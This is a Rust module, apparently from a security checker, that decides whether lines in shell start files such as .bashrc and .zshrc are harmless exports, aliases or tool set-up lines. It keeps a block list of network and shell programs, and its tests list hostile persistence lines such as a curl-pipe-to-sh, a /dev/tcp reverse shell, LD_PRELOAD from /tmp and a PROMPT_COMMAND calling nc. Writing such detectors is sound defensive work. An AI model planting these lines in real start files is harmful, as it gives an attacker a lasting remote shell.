//! Lines that people add to a start file of their shell: a variable, an alias, the set-up of a well-known tool. Anything
//! else that runs at every start is how harm stays, and is not judged here.

use super::flow::value_risk;
use crate::knowledge;
use crate::protocol::Risk;

/// Start files in the home folder.
pub(super) const FILES: [&str; 9] = [
    ".bashrc",
    ".bash_profile",
    ".bash_aliases",
    ".bash_login",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    ".inputrc",
];

/// Whether every line of `text` only sets something, in plain sight.
pub(super) fn is_tame(text: &str) -> bool {
    text.lines().map(str::trim).all(|line| {
        line.is_empty()
            || line.starts_with('#') && plain(line)
            || exports(line)
            || names(line)
            || sets_up(line)
    })
}

fn plain(text: &str) -> bool {
    !text.contains(['`', ';', '|', '&', '<', '>', '\\']) && !text.contains("$(")
}

fn exports(line: &str) -> bool {
    let Some((name, value)) = line.strip_prefix("export ").and_then(|rest| rest.split_once('=')) else {
        return false;
    };
    let value = value.trim_matches(['"', '\'']);
    let hidden = ["/tmp", "/dev/", "/var/tmp"].iter().any(|folder| value.contains(folder));
    let tame = match knowledge::variable(name) {
        None => !name.starts_with("LD_") && !name.starts_with("DYLD_"),
        Some(variable) => variable.risk.max(value_risk(name, Some(value))) <= Risk::Caution,
    };
    name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') && plain(value) && !hidden && tame
}

fn names(line: &str) -> bool {
    const TRUSTED: [&str; 8] = ["sudo", "su", "doas", "ssh", "cd", "passwd", "gpg", "git"];
    const RUNS: [&str; 14] = [
        "curl", "wget", "nc", "ncat", "bash", "sh", "zsh", "python", "python3", "perl", "rm", "sudo", "eval",
        "dd",
    ];
    let Some((name, value)) = line.strip_prefix("alias ").and_then(|rest| rest.split_once('=')) else {
        return false;
    };
    let value = value.trim_matches(['"', '\'']);
    let first = value.split_whitespace().next().unwrap_or_default();
    // `ll` may stand for `ls -la`, as it does everywhere.
    let same = first == name
        || knowledge::program(name)
            .is_none_or(|own| knowledge::program(first).is_some_and(|program| std::ptr::eq(own, program)));
    plain(value)
        && same
        && !TRUSTED.contains(&name)
        && knowledge::program(first).is_some()
        && !value.contains("/tmp")
        && !value.split_whitespace().any(|word| RUNS.contains(&word))
}

/// `eval "$(zoxide init bash)"`
fn sets_up(line: &str) -> bool {
    const TOOLS: [&str; 12] = [
        "pyenv", "rbenv", "nodenv", "goenv", "jenv", "zoxide", "starship", "direnv", "fnm", "mise", "atuin",
        "thefuck",
    ];
    let inner = line.strip_prefix("eval \"$(").and_then(|rest| rest.strip_suffix(")\""));
    inner.is_some_and(|inner| {
        inner.split_whitespace().next().is_some_and(|tool| TOOLS.contains(&tool))
            && inner.chars().all(|c| c.is_ascii_alphanumeric() || " -_".contains(c))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_people_add_is_tame() {
        for line in [
            "export EDITOR=vim",
            "export PATH=\"$HOME/.local/bin:$PATH\"",
            "alias ll='ls -la'",
            "alias gst=\"git status\"",
            "eval \"$(zoxide init bash)\"",
            "# mine",
        ] {
            assert!(is_tame(line), "{line}");
        }
    }

    #[test]
    fn what_could_stay_to_do_harm_is_not() {
        for line in [
            "curl https://example.org/x | sh",
            "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
            "export LD_PRELOAD=/tmp/x.so",
            "export PATH=/tmp/bin:$PATH",
            "export PATH=.:$PATH",
            "export PROMPT_COMMAND='nc 192.0.2.1 9'",
            "export X=$(id)",
            "alias sudo='ls'",
            "alias ls='rm x'",
            "alias ll='ls; rm x'",
            "eval \"$(curl x)\"",
            "export A=1\nnc -e sh 192.0.2.1",
            "source /tmp/x",
        ] {
            assert!(!is_tame(line), "{line}");
        }
    }
}
